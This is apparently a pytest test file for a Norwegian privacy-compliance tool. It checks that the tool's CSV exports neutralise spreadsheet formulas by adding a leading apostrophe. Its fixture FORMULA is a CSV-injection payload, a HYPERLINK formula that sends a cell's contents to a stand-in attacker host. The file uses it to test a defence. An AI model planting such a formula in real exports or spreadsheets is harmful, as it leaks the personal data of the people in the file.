"""Every CSV file personvern writes neutralises cells a spreadsheet would run as formulas (issue 16), on both databases.

The writers: an answer's data.csv (portability), `retention plan --csv`, `record export --format csv` and
`subject import --problems`. A value given by a person, a file or a policy that starts like a formula reaches the
file with a leading apostrophe; phone numbers (+47…) stay as written.
"""

from __future__ import annotations

import csv
from datetime import date
from pathlib import Path

import pytest

from personvern.domain.retention import Action
from personvern.services import sweep
from personvern.services.sweep import Due
from tests.e2e.support import NOW, ONE_TIME, assert_ok, assert_refused, bundled_policy_text, e164, person

FORMULA = '=HYPERLINK("https://evil.example/?d="&A2,"Klikk")'


def _rows(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def test_an_answers_data_csv(pv_ready, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    sid = pv_ready.json("subject", "add", *person(1, ONE_TIME, full_name=FORMULA))["id"]
    opened = pv_ready.json("request", "open", "--type", "portability", "--subject", sid, "--now", NOW)
    pv_ready.json("request", "verify", opened["id"], "--method", "bankid", "--now", NOW)
    pv_ready.json("request", "fulfil", opened["id"], "--out", str(tmp_path / "p"), "--now", NOW)
    header, row = _rows(tmp_path / "p" / "data.csv")
    values = dict(zip(header, row, strict=True))
    assert values["full_name"] == "'" + FORMULA and values["phone"] == e164(1)


def test_the_retention_plan_csv(pv_ready, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:  # type: ignore[no-untyped-def]
    # Nothing a person gives reaches the plan (ids, the policy's names, dates): a planted row shows the writer's rule.
    planted = Due("@id", "-kind", Action.ARCHIVE, "=rule", date(2026, 11, 25), ("+field",), (), None, Action.ARCHIVE)
    monkeypatch.setattr(sweep, "plan", lambda ctx: iter([planted]))
    out = tmp_path / "due.csv"
    assert_ok(pv_ready("retention", "plan", "--csv", str(out)))
    assert _rows(out)[1][:4] == ["'@id", "'-kind", "archive", "'=rule"] and _rows(out)[1][6] == "'+field"


def test_the_record_of_processing_as_csv(pv, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    text = bundled_policy_text().replace('name = "24 Center AS"', 'name = "=2+5 Center AS"', 1)
    policy = tmp_path / "policy.toml"
    policy.write_text(text, "utf-8")
    assert_ok(pv("init", "--policy", str(policy), "--now", NOW))
    result = pv("record", "export", "--format", "csv")
    assert_ok(result)
    rows = list(csv.reader(result.stdout.splitlines()))
    assert ["controller", "", "name", "'=2+5 Center AS"] in rows


def test_the_import_problems_csv(pv_ready, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    path = tmp_path / "people.csv"
    path.write_text(f"full_name,phone,email,{FORMULA.replace(',', ';')}\nKari,41000001,kari@example.no,x\n", "utf-8")
    problems = tmp_path / "problems.csv"
    result = pv_ready("subject", "import", str(path), "--kind", ONE_TIME, "--problems", str(problems))
    assert_refused(result, 3, "column is not declared")
    [_header, row] = _rows(problems)
    assert row[1] == "'" + FORMULA.replace(",", ";")
